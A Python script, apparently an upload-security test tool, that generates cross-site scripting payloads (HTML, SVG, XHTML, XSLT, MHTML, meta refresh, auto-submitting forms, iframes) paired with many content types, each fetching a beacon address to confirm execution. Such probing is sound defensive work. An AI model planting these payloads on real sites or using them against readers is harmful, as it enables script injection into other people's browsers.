"""Prints files that a tenant might upload to run scripts in the browser of a reader, as JSON: `[{name, content_type, text, sha256}]`.

The argument is an address that a script requests when it runs.
"""

import hashlib
import json
import sys

BEACON = sys.argv[1]
SCRIPT = f"fetch('{BEACON}ran',{{mode:'no-cors'}})"
HTML = f"<!doctype html><title>x</title><img src=x onerror=\"{SCRIPT}\"><script>{SCRIPT}</script><svg onload=\"{SCRIPT}\"></svg>"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{SCRIPT}\"><script>{SCRIPT}</script><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror=\"{SCRIPT}\"/></body></foreignObject></svg>"
XHTML = f"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body><script>{SCRIPT}</script></body></html>"
XSLT = f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#s'?><xsl:stylesheet id='s' version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><html><script>{SCRIPT}</script></html></xsl:template></xsl:stylesheet>"
MHTML = f"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n{HTML}\r\n--b--\r\n"
REFRESH = f"<!doctype html><meta http-equiv=refresh content='0;url={BEACON}ran'>"
FORM = f"<!doctype html><form id=f action='{BEACON}ran'></form><script>f.submit()</script>"
FRAME = f"<!doctype html><iframe srcdoc=\"<script>{SCRIPT}</script>\"></iframe><object data='data:text/html,<script>{SCRIPT}</script>'></object><embed src='data:image/svg+xml,x'>"
IMAGE = f"<!doctype html><img src='{BEACON}ran'><link rel=stylesheet href='{BEACON}ran'><style>@import '{BEACON}ran'</style>"

TEXTS = {"html": HTML, "svg": SVG, "xhtml": XHTML, "xslt": XSLT, "mhtml": MHTML, "refresh": REFRESH, "form": FORM, "frame": FRAME, "image": IMAGE}
TYPES = {
    "html": ["text/html", "TEXT/HTML", "text/html; charset=utf-7", "text/html;x", "application/xhtml+xml", "", "application/octet-stream", "text/plain", "image/png", "video/mp4", "application/json", "text/x-html", "text/vnd.wap.wml", "*/*", "unknown/unknown", "text/plain; charset=utf-16", "image/svg", "application/pdf", "audio/x", "text/html, text/plain", "text/plain, text/html"],
    "svg": ["image/svg+xml", "IMAGE/SVG+XML", "image/svg+xml; charset=utf-8", "text/xml", "application/xml", "image/x", "image/svg+xml-compressed"],
    "xhtml": ["application/xhtml+xml", "text/xml", "application/xml", "application/rss+xml", "application/atom+xml", "application/rdf+xml", "application/mathml+xml", "application/vnd.mozilla.xul+xml", "application/xslt+xml", "image/x+xml"],
    "xslt": ["text/xml", "application/xml", "text/xsl", "application/xslt+xml"],
    "mhtml": ["multipart/related", "message/rfc822", "application/x-mimearchive", "multipart/x-mixed-replace; boundary=b"],
    "refresh": ["text/html", "text/plain"],
    "form": ["text/html"],
    "frame": ["text/html", "application/xhtml+xml"],
    "image": ["text/html", "text/css", "image/svg+xml"],
}
made = []
for kind, types in TYPES.items():
    for number, content_type in enumerate(types):
        text = TEXTS[kind]
        digest = hashlib.sha256(text.encode()).hexdigest()
        made.append({"name": f"{kind}-{number}.{kind}", "content_type": content_type, "text": text, "sha256": digest})
print(json.dumps(made))
